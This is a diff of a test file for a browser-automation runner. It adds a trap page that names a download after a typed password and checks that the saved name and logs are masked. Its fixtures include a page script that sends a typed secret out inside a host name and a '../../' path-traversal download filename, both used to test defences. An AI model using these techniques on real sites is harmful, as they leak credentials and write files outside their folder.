@@ -49,6 +49,8 @@ SCRIPTS = {
     "image": '[{id: open, goto: "/image", expect: {visible: page.settled}}]',
     "download": '[{id: open, goto: "/dl"}, {id: fetch_file, click: page.download}]',
     "webrtc": '[{id: open, goto: "/webrtc", expect: {visible: page.settled}}]',
+    "download_named": '[{id: open, goto: "/dl-named"}, {id: pw, fill: {target: page.password, '
+    'value: "{{ inputs.pw }}"}}, {id: fetch_file, click: page.download}]',
     "exfil": '[{id: open, goto: "/exfil"}, {id: pw, fill: {target: page.password, '
     'value: "{{ inputs.pw }}"}, expect: {visible: page.settled}}]',
 }
@@ -108,8 +110,16 @@ async def trap() -> AsyncIterator[Trap]:
             f"'http://' + e.target.value + '.localhost:{site.port}/stolen?via=exfil')"
             f".catch(() => {{}}).finally(() => {{ {settle}; }}));</script>",
             "/stolen": "<h1>Stolen</h1>",
+            "/dl-named": '<h1>Files</h1><input id="pw" type="password"><a id="dl">export</a>'
+            "<script>document.getElementById('pw').addEventListener('input', (e) => {"
+            "document.getElementById('dl').href = '/file-named?who=' + e.target.value; });"
+            "</script>",
             "/dl": '<h1>Files</h1><a id="dl" href="/file">statement</a>',
         }
+        if request.path == "/file-named":  # an export named after what was typed
+            name = f"export-{request.query['who']}.csv"
+            disposition = f'attachment; filename="{name}"'
+            return web.Response(text="export body", headers={"Content-Disposition": disposition})
         if request.path == "/file":
             # A hostile name: the site would like the file two folders up.
             disposition = 'attachment; filename="../../escaped.txt"'
@@ -202,6 +212,24 @@ async def test_a_secret_a_page_sends_out_in_a_host_name_is_redacted_from_the_rep
     assert f"***.localhost:{trap.port}/stolen?via=exfil" in (report.error.evidence or "")
     assert password.lower() not in report.model_dump_json().lower()
     assert password.lower() not in caplog.text.lower()
+
+
+async def test_a_download_named_after_a_typed_secret_is_kept_under_a_masked_name(
+    trap: Trap, trap_runtime: Runtime, tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    # The site named the file `export-<what was typed>.csv`: it was kept, and logged, so.
+    password = "Pw-9931-zz"
+    job = BrowserJob(
+        job_id="trap-dl-named", script="trap/download_named", site_url=trap.url,
+        inputs={"pw": password},
+    )  # fmt: skip
+    report = await run_job(job, trap_runtime)
+
+    assert report.status == JobStatus.succeeded, report.error
+    kept = await asyncio.to_thread(lambda: list(tmp_path.rglob("export-*")))
+    assert [k.name for k in kept] == ["export-___.csv"]
+    assert kept[0].read_text() == "export body"
+    assert password not in caplog.text
 
 
 async def test_downloads_stay_in_the_jobs_own_directory(
